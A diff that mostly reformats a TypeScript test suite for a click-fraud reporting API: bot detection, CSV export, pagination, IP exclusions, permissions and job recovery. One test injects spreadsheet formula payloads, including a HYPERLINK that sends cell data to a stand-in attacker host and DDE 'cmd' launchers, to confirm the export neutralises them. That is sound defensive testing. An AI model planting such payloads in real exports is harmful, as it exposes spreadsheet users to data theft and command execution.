@@ -8,8 +8,10 @@ import { CLICK_DESTINATION, sendClick } from '../helpers/clicks.ts';
 
 const DAY = 86_400_000;
 const isoDay = (offsetDays: number) => new Date(Date.now() + offsetDays * DAY).toISOString().slice(0, 10);
-const CHROME = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
-const IPHONE = 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';
+const CHROME =
+  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36';
+const IPHONE =
+  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1';
 const ENV = { TRUST_PROXY: '127.0.0.1' };
 /** Small chunks, so a couple of dozen rows cross several chunk borders of the keyset pagination. */
 const CHUNK_SIZE = 10;
@@ -70,8 +72,17 @@ function parseCsv(text: string): string[][] {
   return rows;
 }
 
-async function createCampaign(t: TestApp, token: string, fields: Record<string, unknown> = {}): Promise<{ id: number; uuid: string }> {
-  const response = await t.request({ method: 'POST', url: '/api/v1/campaigns', token, payload: { name: 'Search', destination_url: CLICK_DESTINATION, cost_model: 'cpc', cost_value: 0.5, ...fields } });
+async function createCampaign(
+  t: TestApp,
+  token: string,
+  fields: Record<string, unknown> = {},
+): Promise<{ id: number; uuid: string }> {
+  const response = await t.request({
+    method: 'POST',
+    url: '/api/v1/campaigns',
+    token,
+    payload: { name: 'Search', destination_url: CLICK_DESTINATION, cost_model: 'cpc', cost_value: 0.5, ...fields },
+  });
   assert.equal(response.statusCode, 201, response.body);
   return response.json().data;
 }
@@ -118,7 +129,8 @@ function assertTimeOrder(rows: string[][]): void {
   assert.deepEqual([...times].sort(), times);
 }
 
-const bot = (t: TestApp, uuid: string, ip: string, query: Record<string, string> = {}, userAgent = 'curl/8.4.0') => sendClick(t, uuid, { ip, userAgent, query });
+const bot = (t: TestApp, uuid: string, ip: string, query: Record<string, string> = {}, userAgent = 'curl/8.4.0') =>
+  sendClick(t, uuid, { ip, userAgent, query });
 
 forEachDialect(
   'fraud reports',
@@ -133,16 +145,42 @@ forEachDialect(
       const curl = await bot(t, campaign.uuid, '84.128.3.30', { gclid: 'g-curl' });
       const python = await bot(t, campaign.uuid, '84.128.4.40', {}, 'python-requests/2.31.0');
       await sendClick(t, campaign.uuid, { ip: '84.128.5.50', userAgent: CHROME });
-      const repeat = await sendClick(t, campaign.uuid, { ip: '84.128.5.50', userAgent: CHROME, query: { gclid: 'g-again' } });
+      const repeat = await sendClick(t, campaign.uuid, {
+        ip: '84.128.5.50',
+        userAgent: CHROME,
+        query: { gclid: 'g-again' },
+      });
       const cloud = await sendClick(t, campaign.uuid, { ip: '159.89.0.1', userAgent: CHROME });
-      await sendClick(t, campaign.uuid, { ip: '66.249.66.1', userAgent: 'AdsBot-Google (+http://www.google.com/adsbot.html)' });
+      await sendClick(t, campaign.uuid, {
+        ip: '66.249.66.1',
+        userAgent: 'AdsBot-Google (+http://www.google.com/adsbot.html)',
+      });
 
-      const created = await createReport(t, token, { campaign_id: campaign.id, from: isoDay(-6), to: isoDay(0), platform: 'google' });
-      assert.deepEqual(Object.keys(created).sort(), ['campaign_id', 'completed_at', 'created_at', 'error', 'from', 'id', 'platform', 'status', 'summary', 'to']);
+      const created = await createReport(t, token, {
+        campaign_id: campaign.id,
+        from: isoDay(-6),
+        to: isoDay(0),
+        platform: 'google',
+      });
+      assert.deepEqual(Object.keys(created).sort(), [
+        'campaign_id',
+        'completed_at',
+        'created_at',
+        'error',
+        'from',
+        'id',
+        'platform',
+        'status',
+        'summary',
+        'to',
+      ]);
       assert.equal(created.status, 'processing');
       assert.equal(created.summary, null);
       assert.equal(created.completed_at, null);
-      assert.deepEqual([created.campaign_id, created.platform, created.from, created.to], [campaign.id, 'google', isoDay(-6), isoDay(0)]);
+      assert.deepEqual(
+        [created.campaign_id, created.platform, created.from, created.to],
+        [campaign.id, 'google', isoDay(-6), isoDay(0)],
+      );
 
       const report = await waitForReport(t, token, created.id);
       assert.equal(report.status, 'ready', JSON.stringify(report));
@@ -160,7 +198,11 @@ forEachDialect(
       const rows = await downloadCsv(t, token, report.id);
       assert.deepEqual(rows[0], ['time', 'click_id', 'gclid', 'ip', 'country', 'fraud_type', 'reasons', 'cost']);
       assert.equal(rows.length, 1 + 4);
-      assert.deepEqual(sameSet(rows.slice(1).map((r) => r[1]!)), sameSet([curl, python, repeat, cloud]), 'verified crawler and real clicks left out');
+      assert.deepEqual(
+        sameSet(rows.slice(1).map((r) => r[1]!)),
+        sameSet([curl, python, repeat, cloud]),
+        'verified crawler and real clicks left out',
+      );
       assertTimeOrder(rows);
       const byId = new Map(rows.slice(1).map((r) => [r[1], r]));
       assert.deepEqual(byId.get(curl)!.slice(2, 6), ['g-curl', '84.128.3.30', 'DE', 'bot']);
@@ -177,7 +219,10 @@ forEachDialect(
       const list = await t.request({ method: 'GET', url: '/api/v2/fraud/reports', token });
       assert.equal(list.statusCode, 200, list.body);
       assert.deepEqual(list.json().meta, { page: 1, per_page: 20, total: 2 });
-      assert.deepEqual(list.json().data.map((r: Report) => r.id), [second.id, report.id]);
+      assert.deepEqual(
+        list.json().data.map((r: Report) => r.id),
+        [second.id, report.id],
+      );
       assert.deepEqual(list.json().data[1], report);
     });
 
@@ -195,7 +240,10 @@ forEachDialect(
       assert.equal(cpmReport.summary!.estimated_savings, 0.01);
       const cpmRows = await downloadCsv(t, token, cpmReport.id);
       assert.equal(cpmRows[0]![2], 'ttclid');
-      assert.ok(cpmRows.slice(1).every((r) => r[7] === '0.0025'), JSON.stringify(cpmRows));
+      assert.ok(
+        cpmRows.slice(1).every((r) => r[7] === '0.0025'),
+        JSON.stringify(cpmRows),
+      );
       const cpaReport = await readyReport(t, token, { campaign_id: cpa.id, platform: 'microsoft' });
       assert.equal(cpaReport.summary!.estimated_savings, 0);
       assert.equal(cpaReport.summary!.fraud_rate, 100);
@@ -208,27 +256,47 @@ forEachDialect(
       const t = ctx();
       const { token } = await t.signUp();
       const campaign = await createCampaign(t, token);
-      const payloads = ['=HYPERLINK("http://evil.example/?"&A1,"Refund")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\tTAB', 'a,b "c"\r\nnext'];
+      const payloads = [
+        '=HYPERLINK("http://evil.example/?"&A1,"Refund")',
+        "+1+cmd|' /C calc'!A0",
+        '-2+3',
+        '@SUM(1+1)',
+        '\tTAB',
+        'a,b "c"\r\nnext',
+      ];
       const sent = new Map<string, string>();
       for (const [i, payload] of payloads.entries()) {
         sent.set(await bot(t, campaign.uuid, `84.131.${i}.1`, { fbclid: payload, sub1: `=sub${i}` }), payload);
       }
       // A user agent that is itself a formula: the reason quotes it.
-      const formulaAgent = await bot(t, campaign.uuid, '84.131.9.1', {}, '=cmd|\' /C calc\'!A0 curl/8.4.0');
+      const formulaAgent = await bot(t, campaign.uuid, '84.131.9.1', {}, "=cmd|' /C calc'!A0 curl/8.4.0");
       const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'meta' });
       assert.equal(report.summary!.rows, payloads.length + 1);
       const response = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token });
       const rows = parseCsv(response.body);
       assert.equal(rows[0]![2], 'fbclid');
       for (const row of rows) {
-        for (const cell of row) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
+        for (const cell of row)
+          assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `cell ${JSON.stringify(cell)} would run as a formula`);
       }
       for (const row of rows.slice(1)) {
         const payload = sent.get(row[1]!);
-        if (payload !== undefined) assert.equal(row[2], /^[=+\-@\t]/.test(payload) ? `'${payload}` : payload, 'neutralised by a leading apostrophe, otherwise intact');
+        if (payload !== undefined)
+          assert.equal(
+            row[2],
+            /^[=+\-@\t]/.test(payload) ? `'${payload}` : payload,
+            'neutralised by a leading apostrophe, otherwise intact',
+          );
       }
-      assert.ok(rows.some((row) => row[1] === formulaAgent && row[6]!.includes('"=cmd|')), 'the quoted user agent survives inside the reason');
-      assert.match(response.body, /,"a,b ""c""\r\nnext",/, 'quoted, quotes doubled, the line break kept inside the cell');
+      assert.ok(
+        rows.some((row) => row[1] === formulaAgent && row[6]!.includes('"=cmd|')),
+        'the quoted user agent survives inside the reason',
+      );
+      assert.match(
+        response.body,
+        /,"a,b ""c""\r\nnext",/,
+        'quoted, quotes doubled, the line break kept inside the cell',
+      );
     });
 
     test('keyset pagination: every fraudulent click exactly once, in order, across chunk borders', async () => {
@@ -284,7 +352,11 @@ forEachDialect(
           truncated: false,
         },
       });
-      const text = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/ip-exclusions?format=text`, token });
+      const text = await t.request({
+        method: 'GET',
+        url: `/api/v2/fraud/report/${report.id}/ip-exclusions?format=text`,
+        token,
+      });
       assert.equal(text.statusCode, 200);
       assert.equal(text.headers['content-type'], 'text/plain; charset=utf-8');
       assert.equal(text.body, '84.128.7.*\n84.128.8.8\n2003::9\n');
@@ -313,14 +385,18 @@ forEachDialect(
         assert.equal(response.json().error.code, 'VALIDATION_ERROR');
         assert.match(response.json().error.message, /still processing/);
       }
-      assert.equal((await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token })).json().data.summary, null);
+      assert.equal(
+        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token })).json().data.summary,
+        null,
+      );
     });
 
-    test('bad input is 400; unknown and other accounts\' campaigns and reports are 404', async () => {
+    test("bad input is 400; unknown and other accounts' campaigns and reports are 404", async () => {
       const t = ctx();
       const { token } = await t.signUp();
       const campaign = await createCampaign(t, token);
-      const post = (payload: Record<string, unknown>, as = token) => t.request({ method: 'POST', url: '/api/v2/fraud/report', token: as, payload });
+      const post = (payload: Record<string, unknown>, as = token) =>
+        t.request({ method: 'POST', url: '/api/v2/fraud/report', token: as, payload });
       const base = { campaign_id: campaign.id, platform: 'google' };
       const bad: Array<[Record<string, unknown>, string, RegExp]> = [
         [{ ...base, from: '2024-02-31' }, 'from', /date/],
@@ -348,16 +424,30 @@ forEachDialect(
       assert.equal((await post({ ...base, campaign_id: foreign.id })).statusCode, 404);
       assert.equal((await post({ ...base, campaign_id: 999_999 })).json().error.code, 'NOT_FOUND');
       await t.request({ method: 'DELETE', url: `/api/v1/campaigns/${foreign.id}`, token: other.token });
-      assert.equal((await post({ ...base, campaign_id: foreign.id }, other.token)).statusCode, 404, 'a deleted campaign has no new reports');
+      assert.equal(
+        (await post({ ...base, campaign_id: foreign.id }, other.token)).statusCode,
+        404,
+        'a deleted campaign has no new reports',
+      );
 
       const mine = await readyReport(t, token, base);
       for (const path of ['', '/csv', '/ip-exclusions']) {
-        const theirs = await t.request({ method: 'GET', url: `/api/v2/fraud/report/${mine.id}${path}`, token: other.token });
+        const theirs = await t.request({
+          method: 'GET',
+          url: `/api/v2/fraud/report/${mine.id}${path}`,
+          token: other.token,
+        });
         assert.equal(theirs.statusCode, 404, `${path}: ${theirs.body}`);
         assert.equal(theirs.json().error.code, 'NOT_FOUND');
-        assert.equal((await t.request({ method: 'GET', url: `/api/v2/fraud/report/999999${path}`, token })).statusCode, 404);
+        assert.equal(
+          (await t.request({ method: 'GET', url: `/api/v2/fraud/report/999999${path}`, token })).statusCode,
+          404,
+        );
       }
-      assert.equal((await t.request({ method: 'GET', url: '/api/v2/fraud/reports', token: other.token })).json().meta.total, 0);
+      assert.equal(
+        (await t.request({ method: 'GET', url: '/api/v2/fraud/reports', token: other.token })).json().meta.total,
+        0,
+      );
       assert.equal((await t.request({ method: 'GET', url: '/api/v2/fraud/report/abc', token })).statusCode, 400);
     });
 
@@ -366,18 +456,51 @@ forEachDialect(
       const { token } = await t.signUp();
       const campaign = await createCampaign(t, token);
       const report = await readyReport(t, token, { campaign_id: campaign.id, platform: 'google' });
-      for (const [method, url] of [['POST', '/api/v2/fraud/report'], ['GET', `/api/v2/fraud/report/${report.id}`], ['GET', `/api/v2/fraud/report/${report.id}/csv`], ['GET', '/api/v2/fraud/reports']] as const) {
-        const response = await t.request({ method, url, payload: method === 'POST' ? { campaign_id: campaign.id, platform: 'google' } : undefined });
+      for (const [method, url] of [
+        ['POST', '/api/v2/fraud/report'],
+        ['GET', `/api/v2/fraud/report/${report.id}`],
+        ['GET', `/api/v2/fraud/report/${report.id}/csv`],
+        ['GET', '/api/v2/fraud/reports'],
+      ] as const) {
+        const response = await t.request({
+          method,
+          url,
+          payload: method === 'POST' ? { campaign_id: campaign.id, platform: 'google' } : undefined,
+        });
         assert.equal(response.statusCode, 401, url);
         assert.equal(response.json().error.code, 'AUTHENTICATION_ERROR');
       }
-      const key = (await t.request({ method: 'POST', url: '/api/v1/api-keys', token, payload: { name: 'reporting', scope: 'read' } })).json().data;
-      const readToken = (await t.request({ method: 'POST', url: '/api/v1/auth/token', payload: { api_key: key.api_key, api_secret: key.api_secret } })).json().token;
-      const refused = await t.request({ method: 'POST', url: '/api/v2/fraud/report', token: readToken, payload: { campaign_id: campaign.id, platform: 'google' } });
+      const key = (
+        await t.request({
+          method: 'POST',
+          url: '/api/v1/api-keys',
+          token,
+          payload: { name: 'reporting', scope: 'read' },
+        })
+      ).json().data;
+      const readToken = (
+        await t.request({
+          method: 'POST',
+          url: '/api/v1/auth/token',
+          payload: { api_key: key.api_key, api_secret: key.api_secret },
+        })
+      ).json().token;
+      const refused = await t.request({
+        method: 'POST',
+        url: '/api/v2/fraud/report',
+        token: readToken,
+        payload: { campaign_id: campaign.id, platform: 'google' },
+      });
       assert.equal(refused.statusCode, 403);
       assert.equal(refused.json().error.code, 'AUTHORIZATION_ERROR');
-      assert.equal((await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token: readToken })).statusCode, 200);
-      assert.equal((await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token: readToken })).statusCode, 200);
+      assert.equal(
+        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}`, token: readToken })).statusCode,
+        200,
+      );
+      assert.equal(
+        (await t.request({ method: 'GET', url: `/api/v2/fraud/report/${report.id}/csv`, token: readToken })).statusCode,
+        200,
+      );
     });
   },
   ENV,
@@ -399,18 +522,35 @@ for (const dialect of DIALECTS) {
 
     try {
       // A job whose computation throws: the report fails, with a reason its owner can read and no internals.
-      await db.updateTable('fraud_reports').set({ status: 'processing', summary: null, completed_at: null, claimed_until: null }).where('id', '=', doomed.id).execute();
-      const failing = createFraudReportRunner({ db, log: silent, now: Date.now, compute: async () => Promise.reject(new Error('relation "clicks" is on fire')) });
+      await db
+        .updateTable('fraud_reports')
+        .set({ status: 'processing', summary: null, completed_at: null, claimed_until: null })
+        .where('id', '=', doomed.id)
+        .execute();
+      const failing = createFraudReportRunner({
+        db,
+        log: silent,
+        now: Date.now,
+        compute: async () => Promise.reject(new Error('relation "clicks" is on fire')),
+      });
       failing.kick();
       for (let i = 0; i < 200; i++) {
-        const row = await db.selectFrom('fraud_reports').select('status').where('id', '=', doomed.id).executeTakeFirstOrThrow();
+        const row = await db
+          .selectFrom('fraud_reports')
+          .select('status')
+          .where('id', '=', doomed.id)
+          .executeTakeFirstOrThrow();
         if (row.status !== 'processing') break;
         await new Promise((resolve) => setTimeout(resolve, 20));
       }
       await failing.close();
 
       // A graceful shutdown mid-job: close() cuts the job off at its next chunk and hands the report back, attempt refunded.
-      await db.updateTable('fraud_reports').set({ status: 'processing', summary: null, completed_at: null, claimed_until: null, attempts: 0 }).where('id', '=', finished.id).execute();
+      await db
+        .updateTable('fraud_reports')
+        .set({ status: 'processing', summary: null, completed_at: null, claimed_until: null, attempts: 0 })
+        .where('id', '=', finished.id)
+        .execute();
       let entered!: () => void;
       const running = new Promise<void>((resolve) => (entered = resolve));
       const endless = createFraudReportRunner({
@@ -425,24 +565,56 @@ for (const dialect of DIALECTS) {
       endless.kick();
       await running;
       await endless.close();
-      const handedBack = await db.selectFrom('fraud_reports').selectAll().where('id', '=', finished.id).executeTakeFirstOrThrow();
-      assert.deepEqual([handedBack.status, handedBack.claimed_until, Number(handedBack.attempts)], ['processing', null, 0]);
+      const handedBack = await db
+        .selectFrom('fraud_reports')
+        .selectAll()
+        .where('id', '=', finished.id)
+        .executeTakeFirstOrThrow();
+      assert.deepEqual(
+        [handedBack.status, handedBack.claimed_until, Number(handedBack.attempts)],
+        ['processing', null, 0],
+      );
 
       // The server was killed mid-job: the row is still processing and its runner's lease has run out.
       await db
         .updateTable('fraud_reports')
-        .set({ status: 'processing', summary: null, ip_exclusions: null, completed_at: null, claimed_until: Date.now() - 1_000, attempts: 1 })
+        .set({
+          status: 'processing',
+          summary: null,
+          ip_exclusions: null,
+          completed_at: null,
+          claimed_until: Date.now() - 1_000,
+          attempts: 1,
+        })
         .where('id', '=', finished.id)
         .execute();
 
-      const second = await buildApp({ config: first.config, storage: first.storage, logger: false, intel: await testIntel(), fraudReports: { chunkSize: CHUNK_SIZE } });
+      const second = await buildApp({
+        config: first.config,
+        storage: first.storage,
+        logger: false,
+        intel: await testIntel(),
+        fraudReports: { chunkSize: CHUNK_SIZE },
+      });
       try {
-        const restarted: TestApp = { ...first, app: second, request: ({ token: bearer, headers, ...options }) => second.inject({ ...options, headers: { ...(bearer ? { authorization: `Bearer ${bearer}` } : {}), ...headers } }) };
+        const restarted: TestApp = {
+          ...first,
+          app: second,
+          request: ({ token: bearer, headers, ...options }) =>
+            second.inject({
+              ...options,
+              headers: { ...(bearer ? { authorization: `Bearer ${bearer}` } : {}), ...headers },
+            }),
+        };
         const again = await waitForReport(restarted, token, finished.id);
         assert.equal(again.status, 'ready');
         assert.deepEqual(again.summary, finished.summary);
         assert.equal(again.summary!.rows, 12);
-        const exclusions = await restarted.request({ method: 'GET', url: `/api/v2/fraud/report/${finished.id}/ip-exclusions`, token });
+        const exclusions = await restarted.request({
+          method: 'GET',
+          url: `/api/v2/fraud/report/${finished.id}/ip-exclusions`,
+          token,
+        });
         assert.equal(exclusions.json().data.entries.length, 12);
 
         const failed = await waitForReport(restarted, token, doomed.id);
